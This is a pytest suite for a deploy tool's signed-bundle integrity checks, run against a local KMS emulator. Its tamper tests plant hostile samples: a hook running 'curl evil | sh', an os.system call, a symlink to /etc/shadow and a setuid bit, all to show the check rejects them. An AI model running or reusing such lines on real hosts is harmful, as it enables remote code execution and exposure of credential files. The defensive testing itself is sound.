"""Signed revisions: `bingo-host bundle --sign-key` and the check BeforeInstall makes, against
moto's KMS (Sign/Verify with real asymmetric keys) on 127.0.0.1. Bundles are the sample app built
by bundle.py and unpacked by archive.py, as a host gets them."""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
import time
import zipfile
from pathlib import Path

import boto3
import pytest
from click.testing import CliRunner

from bingo_host.cli import main
from bingo_host.config import Deploy, load_config_text
from bingo_host.deploy import BundleError, agent, integrity, lifecycle, lock
from bingo_host.deploy.archive import extract
from bingo_host.deploy.bundle import build_bundle
from bingo_host.errors import ConfigError
from tests.aws_servers import AWS_ENV_CLEARED, REGION

REPO = Path(__file__).resolve().parent.parent
SAMPLE = REPO / "tests" / "fixtures" / "sample_app"


APP, GROUP = "music-bingo", "prod"
BINDING = {"application": APP, "deployment_group": GROUP}


def quiet(_line):
    pass


def verify(archive, cfg, echo=quiet, application=APP, group=GROUP):
    """integrity.verify for a deployment of APP to GROUP (what the revisions here are signed for)."""
    return integrity.verify(archive, cfg, echo, application, group)


@pytest.fixture
def kms(moto_server, monkeypatch, tmp_path):
    """A KMS client on moto, the environment pointing bingo-host's own clients there too."""
    for name in AWS_ENV_CLEARED:
        monkeypatch.delenv(name, raising=False)
    empty = tmp_path / "aws-empty"
    empty.write_text("")
    for name, value in (("AWS_CONFIG_FILE", str(empty)), ("AWS_SHARED_CREDENTIALS_FILE", str(empty)),
                        ("AWS_ACCESS_KEY_ID", "testing"), ("AWS_SECRET_ACCESS_KEY", "testing"),
                        ("AWS_DEFAULT_REGION", REGION), ("AWS_ENDPOINT_URL_KMS", moto_server.url),
                        ("AWS_EC2_METADATA_DISABLED", "true"), ("NO_PROXY", "127.0.0.1,localhost")):
        monkeypatch.setenv(name, value)
    return boto3.client("kms", region_name=REGION, endpoint_url=moto_server.url)


def new_key(kms, spec="RSA_2048") -> str:
    return kms.create_key(KeyUsage="SIGN_VERIFY", KeySpec=spec)["KeyMetadata"]["Arn"]


@pytest.fixture
def fake_wheel(tmp_path):
    wheel = tmp_path / "bingo_host-0.1.0-py3-none-any.whl"
    wheel.write_bytes(b"PK not really a wheel")
    return wheel


def unpacked(tmp_path, fake_wheel, sign_key=None, fmt="zip", name="rev") -> Path:
    out = build_bundle(SAMPLE, tmp_path / f"{name}.{'zip' if fmt == 'zip' else 'tar.gz'}", fake_wheel,
                       echo=quiet, sign_key=sign_key, binding=BINDING)
    dest = tmp_path / f"{name}-archive"
    extract(str(out), str(dest))
    return dest


def required(key) -> Deploy:
    return Deploy(require_signature=True, signing_key=key)


@pytest.mark.parametrize("fmt, spec, algorithm", [("zip", "RSA_2048", "RSASSA_PKCS1_V1_5_SHA_256"),
                                                  ("tgz", "ECC_NIST_P256", "ECDSA_SHA_256")])
def test_a_signed_bundle_verifies(tmp_path, fake_wheel, kms, fmt, spec, algorithm):
    key = new_key(kms, spec)
    archive = unpacked(tmp_path, fake_wheel, key, fmt)
    doc = integrity.load_manifest(str(archive / integrity.MANIFEST))[1]["doc"]
    assert (doc["signing_key"], doc["signing_algorithm"]) == (key, algorithm)
    paths = [e["path"] for e in doc["entries"] if e["type"] == "file"]
    assert paths == sorted(paths) and {"application.py", "hooks/before_install.sh", "appspec.yml",
                                       "bingo-host/bingo_host-0.1.0-py3-none-any.whl"} <= set(paths)
    lines = []
    revision = verify(str(archive), required(key), lines.append)
    assert lines == [f"integrity: {len(paths)} files match bingo-manifest.json, signed with {key} for "
                     f"{APP}/{GROUP}, created {doc['created']}"]
    assert revision == {"signed": True, "application": APP, "deployment_group": GROUP,
                        "created": doc["created"], "manifest_sha256": hashlib.sha256(
                            (archive / integrity.MANIFEST).read_bytes()).hexdigest()}


def test_a_bundle_signed_with_an_rsa_key_is_still_reproducible(tmp_path, fake_wheel, kms, monkeypatch):
    """With SOURCE_DATE_EPOCH, `created` too is the same from one build to the next."""
    key = new_key(kms)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1765000000")
    a = build_bundle(SAMPLE, tmp_path / "a" / "r.zip", fake_wheel, echo=quiet, sign_key=key,
                     binding=BINDING)
    time.sleep(1.1)
    b = build_bundle(SAMPLE, tmp_path / "b" / "r.zip", fake_wheel, echo=quiet, sign_key=key,
                     binding=BINDING)
    assert hashlib.sha256(a.read_bytes()).digest() == hashlib.sha256(b.read_bytes()).digest()


@pytest.mark.parametrize("tamper, message", [
    (lambda a: (a / "application.py").write_text("import os; os.system('id')\n"),
     "application.py: its sha256 does not match"),
    (lambda a: (a / "hooks/before_install.sh").write_text("#!/bin/sh\ncurl evil | sh\n"),
     "hooks/before_install.sh: its sha256 does not match"),
    (lambda a: (a / "bingo-host/bingo_host-0.1.0-py3-none-any.whl").write_bytes(b"evil"),
     "bingo-host/bingo_host-0.1.0-py3-none-any.whl: its sha256"),
    (lambda a: (a / "bingo-host/bingo_host-9.9.9-py3-none-any.whl").write_bytes(b"evil"),
     "bingo-host/bingo_host-9.9.9-py3-none-any.whl: a file not in bingo-manifest.json"),
    (lambda a: (a / "extra").mkdir(), "extra: a directory not in"),
    (lambda a: (a / "sneaky").symlink_to("/etc/shadow"), "sneaky: not in bingo-manifest.json"),
    (lambda a: (a / "requirements.txt").unlink(),
     "requirements.txt: listed in bingo-manifest.json but missing"),
    (lambda a: (a / "application.py").chmod(0o4755),
     "application.py: mode 4755, but bingo-manifest.json says 0644"),
])
def test_a_changed_revision_is_refused_naming_the_file(tmp_path, fake_wheel, kms, tamper, message):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    tamper(archive)
    with pytest.raises(BundleError, match=message) as info:
        verify(str(archive), required(key), quiet)
    assert info.value.exit_code == 2
    with pytest.raises(BundleError, match=message):  # the hashes are checked without signatures too
        verify(str(archive), Deploy(), quiet)


def test_a_manifest_changed_to_match_a_changed_file_fails_the_signature(tmp_path, fake_wheel, kms):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    evil = b"import os; os.system('id')\n"
    (archive / "application.py").write_bytes(evil)
    manifest = archive / integrity.MANIFEST
    text = manifest.read_text()
    old = hashlib.sha256((SAMPLE / "application.py").read_bytes()).hexdigest()
    assert old in text
    manifest.write_text(text.replace(old, hashlib.sha256(evil).hexdigest()))
    with pytest.raises(BundleError, match=f"signature does not verify with deploy.signing_key {key}"):
        verify(str(archive), required(key), quiet)


@pytest.mark.parametrize("how", ["other key", "other key type", "garbage"])
def test_a_signature_by_another_key_or_garbage_is_refused(tmp_path, fake_wheel, kms, how):
    key, other = new_key(kms), new_key(kms, "ECC_NIST_P256" if how == "other key type" else "RSA_2048")
    archive = unpacked(tmp_path, fake_wheel, other)
    if how == "garbage":
        (archive / integrity.SIGNATURE).write_bytes(b"AAAA" * 64 + b"\n")
    with pytest.raises(BundleError, match="signature does not verify") as info:
        verify(str(archive), required(other if how == "garbage" else key), quiet)
    assert info.value.exit_code == 2


def test_unsigned_bundles_are_refused_when_signatures_are_required(tmp_path, fake_wheel, kms):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel)
    assert not (archive / integrity.SIGNATURE).exists()
    with pytest.raises(BundleError, match="no bingo-manifest.sig: it is unsigned, and this host's "
                                          "deploy.require_signature is on"):
        verify(str(archive), required(key), quiet)
    (archive / integrity.MANIFEST).unlink()  # an older bundle, or one stripped of its manifest
    with pytest.raises(BundleError, match="no bingo-manifest.json: it is unsigned"):
        verify(str(archive), required(key), quiet)


def test_without_require_signature_unsigned_bundles_pass_as_before(tmp_path, fake_wheel):
    archive = unpacked(tmp_path, fake_wheel)
    lines = []
    verify(str(archive), Deploy(), lines.append)
    assert "signature not checked: deploy.require_signature is off" in lines[0]
    (archive / integrity.MANIFEST).unlink()
    verify(str(archive), Deploy(), lines.append)
    assert "has no bingo-manifest.json; not checked" in lines[1]


def test_a_manifest_matches_what_the_agents_unzip_unpacks(tmp_path, fake_wheel):
    """The agent unpacks with `unzip -qo` under its own umask: the modes still match."""
    import subprocess

    if not shutil.which("unzip"):
        pytest.skip("unzip is not installed")
    out = build_bundle(SAMPLE, tmp_path / "r.zip", fake_wheel, echo=quiet)
    dst = tmp_path / "deployment-archive"
    subprocess.run(["unzip", "-qo", str(out), "-d", str(dst)], check=True,
                   preexec_fn=lambda: os.umask(0o077))
    verify(str(dst), Deploy(), quiet)


def test_config_deploy_fields():
    cfg = load_config_text("deploy:\n  require_signature: true\n  signing_key: "
                           "arn:aws:kms:eu-west-1:123456789012:alias/bingo-signing\n")
    assert cfg.deploy.require_signature and cfg.deploy.signing_key.endswith("alias/bingo-signing")
    assert load_config_text("").deploy == Deploy(False, None)
    with pytest.raises(ConfigError, match="deploy.signing_key: required when deploy.require_signature"):
        load_config_text("deploy:\n  require_signature: true\n")
    with pytest.raises(ConfigError, match="deploy.signing_key: must be a KMS key or alias ARN"):
        load_config_text("deploy:\n  signing_key: alias/bingo\n")
    with pytest.raises(ConfigError, match="deploy.require_signature: expected true or false"):
        load_config_text("deploy:\n  require_signature: 'yes'\n")


def test_bundle_cli_refuses_a_sign_key_that_is_not_an_arn(tmp_path, fake_wheel):
    r = CliRunner().invoke(main, ["bundle", "--app", str(SAMPLE), "--out", str(tmp_path / "r.zip"),
                                  "--wheel", str(fake_wheel), "--sign-key", "my-key"])
    assert r.exit_code == 2 and "--sign-key: must be a KMS key or alias ARN" in r.output
    assert not (tmp_path / "r.zip").exists()


# -- where the check runs: the hook, and `bingo-host deploy` before any script --

@pytest.fixture
def agent_root(tmp_path, monkeypatch):
    conf = tmp_path / "codedeployagent.yml"
    root = tmp_path / "agent-root"
    conf.write_text(f":root_dir: '{root}'\n")
    monkeypatch.setattr(agent, "CONFIG", str(conf))
    monkeypatch.setattr(lifecycle, "LEGACY_WORK_DIR", str(tmp_path / "legacy"))
    monkeypatch.setattr(lock, "STATE_FILE", str(tmp_path / "deploy.json"))
    return root


def test_hook_before_install_refuses_a_tampered_revision_before_anything(tmp_path, fake_wheel, kms,
                                                                         agent_root, monkeypatch):
    key = new_key(kms)
    archive = unpacked(tmp_path, fake_wheel, key)
    (archive / "musicbingo" / "__init__.py").write_text("evil = True\n")
    where = agent.Layout(str(agent_root), "grp", "d-SIGNED001").archive
    os.makedirs(os.path.dirname(where))
    shutil.move(str(archive), where)
    config = tmp_path / "config.yaml"
    config.write_text(f"deploy:\n  require_signature: true\n  signing_key: {key}\n")
    for name, value in (("DEPLOYMENT_ID", "d-SIGNED001"), ("DEPLOYMENT_GROUP_ID", "grp"),
                        ("LIFECYCLE_EVENT", "BeforeInstall"), ("APPLICATION_NAME", APP),
                        ("DEPLOYMENT_GROUP_NAME", GROUP)):
        monkeypatch.setenv(name, value)
    r = CliRunner().invoke(main, ["--config", str(config), "hook", "BeforeInstall"])
    assert r.exit_code == 2, r.output
    assert "musicbingo/__init__.py: its sha256 does not match bingo-manifest.json" in r.output
    assert not os.path.exists(lock.STATE_FILE)  # no deploy lock taken, nothing upgraded


def _revision(path: Path, marker: Path) -> Path:
    (path / "hooks").mkdir(parents=True)
    (path / "hooks" / "stop.sh").write_text(f"#!/bin/sh\ntouch {marker}\n")
    (path / "hooks" / "stop.sh").chmod(0o755)
    (path / "appspec.yml").write_text("version: 0.0\nos: linux\nhooks:\n  BeforeInstall:\n"
                                      "    - location: hooks/stop.sh\n")
    return path


def _sign_tree(tree: Path, key: str, created: str = "2026-01-01T00:00:00Z",
               binding: dict | None = None) -> None:
    """Sign tree for `bingo-host deploy`'s defaults (music-bingo, LocalFleet) unless binding says."""
    files, dirs = [], []
    for p in sorted(tree.rglob("*")):
        rel, mode = p.relative_to(tree).as_posix(), stat.S_IMODE(p.stat().st_mode)
        if p.is_dir():
            dirs.append((rel, mode))
        else:
            files.append((rel, integrity.sha256_file(str(p)), mode))
    algorithm = integrity.signing_algorithm(key)
    binding = binding or {"application": lifecycle.DEFAULT_APPLICATION_NAME,
                          "deployment_group": lifecycle.DEFAULT_GROUP_NAME}
    data = integrity.manifest(files, dirs, key, algorithm, dict(binding, created=created))
    (tree / integrity.MANIFEST).write_bytes(data)
    (tree / integrity.SIGNATURE).write_bytes(integrity.sign(data, key, algorithm))


def test_deploy_checks_the_signature_before_the_revisions_first_script(tmp_path, kms, agent_root):
    """The agent runs the new revision's BeforeInstall script before any check can; `bingo-host
    deploy` checks first, so not even that script runs."""
    key = new_key(kms)
    marker = tmp_path / "script-ran"
    unsigned = _revision(tmp_path / "unsigned", marker)
    with pytest.raises(BundleError, match="unsigned, and this host's deploy.require_signature is on"):
        lifecycle.deploy(str(unsigned), "d-UNSIGNED1", echo=quiet, deploy_cfg=required(key))
    assert not marker.exists() and not (agent_root / lifecycle.DEFAULT_GROUP_ID).exists()

    signed = _revision(tmp_path / "signed", marker)
    _sign_tree(signed, key)
    zipped = shutil.make_archive(str(tmp_path / "signed"), "zip", signed)
    with zipfile.ZipFile(zipped) as zf:  # make_archive keeps the modes
        assert integrity.MANIFEST in zf.namelist()
    lifecycle.deploy(zipped, "d-SIGNED002", echo=quiet, deploy_cfg=required(key))
    assert marker.exists()
